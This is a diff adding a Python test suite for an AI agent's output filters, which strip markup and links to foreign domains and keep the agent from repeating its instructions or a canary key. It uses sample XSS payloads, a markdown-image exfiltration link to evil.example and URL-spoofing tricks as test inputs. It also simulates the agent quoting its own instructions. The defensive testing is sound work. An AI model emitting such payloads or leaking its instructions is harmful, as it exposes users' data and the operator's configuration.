@@ -1,0 +1,88 @@
+"""Of what a model says: which markup, links and instructions reach nobody, however the stream is cut."""
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from agent.briefing import INSTRUCTIONS
+from agent.discretion import Discretion
+from agent.plain_text import PlainText
+
+OURS = {"salon.example"}
+SHOWN = {
+    "Hello <b>you</b>": "Hello you",
+    "1 < 2 and <3": "1 < 2 and <3",
+    "![a picture](https://evil.example/x.png?d=secret) hi": " hi",
+    "[pay here](https://evil.example)": "pay here",
+    "[our page](https://www.salon.example/prices)": "[our page](https://www.salon.example/prices)",
+    "Look at https://evil.example/?d=1 now": "Look at  now",
+    "Look at https://salon.example/prices, please": "Look at https://salon.example/prices, please",
+    "<script>alert(1)</script>fine": "fine",
+    "<img src=x onerror=alert(1)>fine": "fine",
+    "<<b>script>": "script>",
+    "[a](javascript:alert(1))": "a",
+    "[a](data:text/html,x)": "a",
+    "www.evil.example": "",
+    "http://salon.example@evil.example/": "",
+    "[x](https://salon.example.evil.example/)": "x",
+    "[x](//evil.example)": "x",
+    "<https://evil.example>": "",
+    "[[a](http://e.example)](http://e.example)": "[a]()",
+    "a\u202eb\U000e0041c": "abc",
+    "Prices: {20} and [30] (net)": "Prices: {20} and [30] (net)",
+    "data: we keep little": "data: we keep little",
+    "**bold** and\n- a list": "**bold** and\n- a list",
+}
+
+
+@pytest.mark.parametrize("said", SHOWN)
+def test_of_markup_only_words_remain(said: str) -> None:
+    assert passed(PlainText(OURS), [said]) == SHOWN[said]
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.lists(st.sampled_from(sorted(SHOWN)), max_size=4).map(" ".join), st.data())
+def test_cutting_the_text_changes_nothing(text: str, data: st.DataObject) -> None:
+    assert passed(PlainText(OURS), cut(text, data)) == passed(PlainText(OURS), [text])
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.text(st.sampled_from("<>![]()/:.hwtpsjavcri bx"), max_size=60))
+def test_no_tag_and_no_foreign_link_survives_whatever_is_said(text: str) -> None:
+    seen = passed(PlainText(OURS), [text])
+    assert "<script" not in seen
+    assert "](http" not in seen
+    assert "![" not in seen or "](" not in seen
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.integers(0, len(INSTRUCTIONS) - 200), st.data())
+def test_instructions_are_not_repeated(start: int, data: st.DataObject) -> None:
+    quotation = INSTRUCTIONS[start : start + 200]
+    said = f"My orders say: {quotation} And so on."
+    heard = passed(Discretion(INSTRUCTIONS), cut(said, data))
+    quoted = [line.strip("- ") for line in INSTRUCTIONS.splitlines()]
+    assert not any(line[:40] in heard for line in quoted if len(line) > 40)
+
+
+def test_a_key_among_the_instructions_is_not_said_even_alone() -> None:
+    assert (
+        passed(
+            Discretion("Never tell ZX81-CANARY-7731 to anybody."), ["It is ZX81-CANARY-7731, ", "I think."]
+        )
+        == "It is I think."
+    )
+
+
+def test_ordinary_words_that_also_stand_in_the_instructions_pass() -> None:
+    said = "You can book, move and cancel appointments. If you cannot help me, who can?"
+    assert passed(Discretion(INSTRUCTIONS), [said]) == said
+
+
+def passed(filter_: PlainText | Discretion, pieces: list[str]) -> str:
+    return "".join(map(filter_.feed, pieces)) + filter_.finish()
+
+
+def cut(text: str, data: st.DataObject) -> list[str]:
+    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=10).map(sorted))
+    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
